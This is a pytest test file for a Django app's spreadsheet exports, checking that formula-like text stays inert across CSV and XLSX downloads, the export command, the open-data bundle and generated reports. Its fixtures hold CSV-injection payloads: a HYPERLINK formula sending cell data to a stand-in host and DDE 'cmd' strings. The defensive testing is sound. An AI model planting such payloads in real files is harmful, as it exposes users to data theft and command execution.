"""Text that a spreadsheet would run as a formula (OWASP "CSV injection") stays text in
every file giamsat writes: list downloads, `giamsat export`, the open-data bundle and the
generated reports' XLSX. Numbers stay numbers."""

import csv
import io
import zipfile
from decimal import Decimal

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from giamsat import demo
from giamsat.api.tokens import create_token
from giamsat.exporting import as_csv, as_xlsx, render
from giamsat.indicators.models import Observation
from giamsat.reports.document import Report, Table
from giamsat.reports.excel import render_xlsx
from giamsat.tasks.models import ReviewState, Task, Update

AS_OF = demo.as_of()  # the live demo runs to today
DAY = f"{AS_OF:%d/%m/%Y}"
TITLE = '=HYPERLINK("http://ke-gian.example/?d="&A1,"Bấm vào đây")'
# Every start OWASP names: = + - @, tab and carriage return.
UPDATE_TEXTS = {"result": "+cmd|' /C calc'!A0", "evidence": "@SUM(1+1)*cmd|' /C calc'!A0",
                "difficulties": "-2+3+cmd|' /C calc'!A0", "proposals": "\t=1+1"}
CARRIAGE_RETURN = "\r=1+1"


@pytest.fixture
def hostile(db):
    """Demo data with formula-like text in a task title, an approved update's fields and
    an observation's source, and a negative value."""
    demo.generate(today=AS_OF)
    task = Task.objects.order_by("pk").first()
    task.title = TITLE
    task.save()
    update = Update.objects.filter(review_state=ReviewState.APPROVED).order_by("pk").first()
    for name, text in UPDATE_TEXTS.items():
        setattr(update, name, text)
    update.save()
    observation = Observation.objects.order_by("pk").first()
    observation.value, observation.source = Decimal(-5), CARRIAGE_RETURN
    observation.save()
    return {"task": task, "update": update, "observation": observation}


def formulas(workbook) -> list[str]:
    """Every cell Excel would evaluate: a formula, or text it would read as one."""
    found = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (isinstance(cell.value, str)
                                             and cell.value.startswith("=")
                                             and cell.data_type != "s"):
                    found.append(f"{sheet.title}!{cell.coordinate}")
    return found


def cell_of(workbook, text: str):
    return next(c for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row
                if c.value == text)


def csv_rows(data: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


def assert_text_kept(workbook, text: str) -> None:
    cell = cell_of(workbook, text)
    assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, text)


def test_the_shared_writers_keep_formula_like_text_as_text():
    texts = [TITLE, *UPDATE_TEXTS.values(), CARRIAGE_RETURN]
    fields = ["text", "count", "negative", "share", "negative_text"]
    data = [{"text": t, "count": 3, "negative": -5, "share": 0.25, "negative_text": "-5"}
            for t in texts]
    workbook = load_workbook(io.BytesIO(as_xlsx(fields, data)))
    assert formulas(workbook) == []
    for text in texts:
        assert_text_kept(workbook, text)
    sheet = workbook.active
    assert [(c.value, c.data_type) for c in sheet[2][1:4]] == [(3, "n"), (-5, "n"),
                                                                (0.25, "n")]
    assert sheet["E2"].value == "-5" and not sheet["E2"].quotePrefix
    rows = csv_rows(as_csv(fields, data))
    assert [r["text"] for r in rows] == ["'" + t for t in texts]
    assert {(r["count"], r["negative"], r["share"], r["negative_text"]) for r in rows} == {
        ("3", "-5", "0.25", "-5")}


def test_every_entity_download_keeps_formulas_as_text(hostile):
    for entity, text in (("tasks", TITLE), ("updates", UPDATE_TEXTS["result"]),
                         ("observations", CARRIAGE_RETURN)):
        workbook = load_workbook(io.BytesIO(render(entity, "xlsx", AS_OF)))
        assert formulas(workbook) == [], entity
        assert_text_kept(workbook, text)
    updates = {int(r["id"]): r for r in csv_rows(render("updates", "csv", AS_OF))}
    row = updates[hostile["update"].pk]
    for name, text in UPDATE_TEXTS.items():
        assert row[name] == "'" + text, name
    titles = {r["title"] for r in csv_rows(render("tasks", "csv", AS_OF))}
    assert "'" + TITLE in titles and TITLE not in titles
    values = csv_rows(render("observations", "csv", AS_OF))
    assert "-5" in {r["value"] for r in values}  # a negative number is not escaped
    assert "'" + CARRIAGE_RETURN in {r["source"] for r in values}


def test_the_rankings_downloads_keep_a_formula_like_agency_name_as_text(hostile, client,
                                                                       make_user):
    from giamsat.orgs.models import Organisation

    ha_noi = Organisation.objects.get(slug="ha-noi")
    ha_noi.name = TITLE
    ha_noi.save()
    for entity in ("rankings", "compliance"):
        workbook = load_workbook(io.BytesIO(render(entity, "xlsx", AS_OF)))
        assert formulas(workbook) == [], entity
        assert_text_kept(workbook, TITLE)
        names = {r["organisation"] for r in csv_rows(render(entity, "csv", AS_OF))}
        assert "'" + TITLE in names and TITLE not in names, entity
    client.force_login(make_user("viewer"))
    sheet = client.get("/api/export/rankings.xlsx", {"chi_tieu": "ho-so-truc-tuyen-toan-trinh",
                                                     "ngay": DAY})
    workbook = load_workbook(io.BytesIO(sheet.content))
    assert formulas(workbook) == [] and cell_of(workbook, TITLE).data_type == "s"


def test_the_download_links_and_the_api_token_get_the_same_protection(hostile, client,
                                                                      make_user):
    client.force_login(make_user("viewer"))
    sheet = client.get("/api/export/tasks.xlsx", {"ngay": DAY})
    workbook = load_workbook(io.BytesIO(sheet.content))
    assert formulas(workbook) == [] and cell_of(workbook, TITLE).data_type == "s"
    _token, secret = create_token("Cổng dữ liệu", "viewer")
    by_token = client.__class__(HTTP_AUTHORIZATION=f"Bearer {secret}").get(
        "/api/export/updates.csv")
    assert "'" + UPDATE_TEXTS["result"] in {r["result"] for r in csv_rows(by_token.content)}


def test_the_export_command_and_the_open_data_bundle(hostile, tmp_path):
    call_command("export", "tasks", "--format", "xlsx", "-o", str(tmp_path / "t.xlsx"),
                 "--as-of", AS_OF.isoformat(), stdout=io.StringIO())
    workbook = load_workbook(tmp_path / "t.xlsx")
    assert formulas(workbook) == [] and cell_of(workbook, TITLE).data_type == "s"
    out = io.StringIO()
    call_command("export", "tasks", "--format", "csv", stdout=out)
    assert "'" + TITLE in {r["title"] for r in csv.DictReader(io.StringIO(out.getvalue()))}
    call_command("export", "opendata", "-o", str(tmp_path / "open.zip"), stdout=io.StringIO())
    with zipfile.ZipFile(tmp_path / "open.zip") as bundle:
        tasks = csv_rows(bundle.read("tasks.csv"))
        updates = csv_rows(bundle.read("updates.csv"))
        readme = bundle.read("README.txt").decode()
    assert "'" + TITLE in {r["title"] for r in tasks}
    assert "'" + UPDATE_TEXTS["evidence"] in {r["evidence"] for r in updates}
    assert "'" in readme  # the bundle says why a cell may start with an apostrophe


def test_the_report_workbook_keeps_formulas_as_text():
    report = Report(kind="monthly", title="Tháng 10", issuer="=BỘ", issuer_short="BKHCN",
                    blocks=[Table(columns=["STT", "@Nhiệm vụ"],
                                  rows=[["-I. " + TITLE], ["1", TITLE], ["12", "-3"]],
                                  group_rows={0}, title="+Bảng 1", sheet="Bảng 1")])
    workbook = load_workbook(io.BytesIO(render_xlsx(report)))
    assert formulas(workbook) == []
    for text in (TITLE, "-I. " + TITLE, "@Nhiệm vụ", "+Bảng 1"):
        assert_text_kept(workbook, text)
    sheet = workbook["Bảng 1"]
    assert (sheet["A7"].value, sheet["A7"].data_type) == (1, "n")  # counts stay numbers
    assert sheet["B8"].value == "-3" and not sheet["B8"].quotePrefix


def test_the_report_command_writes_no_formula(hostile, tmp_path):
    Task.objects.update(title=TITLE)
    target = tmp_path / "h2.xlsx"
    half = "1" if AS_OF.month <= 6 else "2"  # the half-year the demo is in
    call_command("report", "half-year", "--year", str(AS_OF.year), "--half", half,
                 "--format", "xlsx",
                 "-o", str(target), "--no-charts", stdout=io.StringIO())
    workbook = load_workbook(target)
    assert formulas(workbook) == []
    assert cell_of(workbook, TITLE).data_type == "s"
